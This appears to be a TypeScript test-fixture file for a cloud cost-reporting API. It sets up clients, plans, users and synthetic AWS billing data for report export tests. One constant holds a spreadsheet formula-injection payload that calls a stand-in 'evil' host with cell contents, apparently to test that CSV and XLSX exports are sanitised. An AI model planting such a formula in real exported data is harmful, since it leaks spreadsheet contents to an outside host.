/**
 * The world of the report API tests: client "Señales Andinas" (USD reporting, spend in USD and
 * EUR, a negative credit, tags with an injection payload) on a plan with every feature, and a
 * second client on a plan with PDF and CSV only. Facts cover the last full month, the month
 * before it and the same month a year earlier, relative to the real clock (tokens use it too).
 */
import { sql } from 'drizzle-orm';
import type { LightMyRequestResponse as InjectResponse } from 'fastify';

import { queryRows } from '../../src/db/client.js';
import { addMonths, monthEnd } from '../../src/modules/costs/costs.fns.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { addMember, makePlan, makeUser, subscribe } from '../support/factories.js';
import { createClient, eachDay, fact, insertFacts, type FactRow } from '../support/facts.js';

export const ALL_FEATURES = [
  'costs',
  'findings',
  'reports.pdf',
  'reports.csv',
  'reports.xlsx',
  'anomalies',
  'forecast',
  'commitments',
  'exports.focus',
];

export const INJECTION_TAG = '=HYPERLINK("http://evil/?"&A1,"x")';
export const ACCENTED_ACCOUNT = 'Producción Señales €';

/** Months relative to today: M is the last full month. */
export function months(now = new Date()) {
  const thisMonth = `${now.toISOString().slice(0, 7)}-01`;
  const m = addMonths(thisMonth, -1);
  const prev = addMonths(m, -1);
  const lastYear = addMonths(m, -12);
  return {
    M: m.slice(0, 7),
    mFrom: m,
    mTo: monthEnd(m),
    prevFrom: prev,
    lastYearFrom: lastYear,
  };
}

function clientFacts(clientId: string): FactRow[] {
  const { prevFrom, mTo, lastYearFrom } = months();
  const days = [...eachDay(lastYearFrom, monthEnd(lastYearFrom)), ...eachDay(prevFrom, mTo)];
  const rows: FactRow[] = [];
  days.forEach((day, i) => {
    const ec2 = (100 + (i % 7) * 3.25).toFixed(4);
    rows.push(
      fact({
        clientId,
        chargeDate: day,
        cost: ec2,
        listCost: (Number(ec2) * 1.3).toFixed(4),
        billingAccountName: ACCENTED_ACCOUNT,
        serviceName: 'Amazon Elastic Compute Cloud',
        serviceCategory: 'Compute',
        regionId: 'sa-east-1',
        resourceId: `i-0${i % 3}`,
        usageType: 'BoxUsage:m5.large',
        usageQuantity: '24',
        usageUnit: 'Hrs',
        pricingCategory: 'Standard',
        tags: { team: 'datos', env: 'prod' },
      }),
      fact({
        clientId,
        chargeDate: day,
        cost: (20 + (i % 5)).toFixed(4),
        subAccountId: '222222222222',
        subAccountName: 'Staging',
        serviceName: 'Amazon Simple Storage Service',
        serviceCategory: 'Storage',
        regionId: 'us-east-1',
        tags: { team: INJECTION_TAG },
      }),
      fact({
        clientId,
        chargeDate: day,
        cost: (40.5 + (i % 3)).toFixed(4),
        billingAccountId: '333333333333',
        billingCurrency: 'EUR',
        serviceName: 'Amazon Relational Database Service',
        serviceCategory: 'Databases',
        regionId: 'eu-west-1',
      }),
    );
  });
  rows.push(
    fact({
      clientId,
      chargeDate: `${months().M}-15`,
      cost: '-12.5',
      chargeCategory: 'Credit',
      serviceName: 'Amazon Elastic Compute Cloud',
      serviceCategory: 'Compute',
    }),
  );
  return rows;
}

export interface World {
  t: TestApp;
  clientA: string;
  clientB: string;
  viewer: string;
  ownerB: string;
  root: string;
  support: string;
  get(url: string, token: string): Promise<InjectResponse>;
}

export async function createWorld(): Promise<World> {
  const t = await createTestApp({ env: { AUTH_RATE_LIMIT_PER_MINUTE: '1000' } });
  const db = t.database.db;

  const clientA = await createClient(db, 'senales-andinas', 'USD');
  const clientB = await createClient(db, 'pampa-chica', 'USD');
  const full = await makePlan(db, ALL_FEATURES);
  const small = await makePlan(db, ['costs', 'findings', 'reports.pdf', 'reports.csv']);
  await subscribe(db, clientA, full.id);
  await subscribe(db, clientB, small.id);
  await insertFacts(db, clientFacts(clientA));
  await insertFacts(db, clientFacts(clientB).slice(0, 200));

  const login = async (u: { email: string; password: string }) => {
    const payload = { email: u.email, password: u.password };
    const res = await t.app.inject({ method: 'POST', url: '/api/auth/login', payload });
    if (res.statusCode !== 200) throw new Error(`login failed: ${res.body}`);
    return res.json().access_token as string;
  };

  const viewerUser = await makeUser(db, { locale: 'en' });
  await addMember(db, clientA, viewerUser.id, 'viewer');
  const ownerUser = await makeUser(db, { locale: 'es' });
  await addMember(db, clientB, ownerUser.id, 'owner');

  return {
    t,
    clientA,
    clientB,
    viewer: await login(viewerUser),
    ownerB: await login(ownerUser),
    root: await login(await makeUser(db, { globalRole: 'root', locale: 'pt-BR' })),
    support: await login(await makeUser(db, { globalRole: 'support' })),
    get: (url, token) =>
      t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } }),
  };
}

/** The `report.exported` event of one request, waiting briefly: it is written after the end. */
export async function exportEvent(
  t: TestApp,
  requestId: string,
): Promise<{ details: Record<string, unknown>; client_id: string | null; actor_user_id: string }> {
  for (let i = 0; i < 100; i += 1) {
    const [row] = await queryRows<{
      details: Record<string, unknown>;
      client_id: string | null;
      actor_user_id: string;
    }>(
      t.database.db,
      sql`select details, client_id, actor_user_id from security_events
          where type = 'report.exported' and request_id = ${requestId}`,
    );
    if (row) return row;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`no report.exported event for ${requestId}`);
}
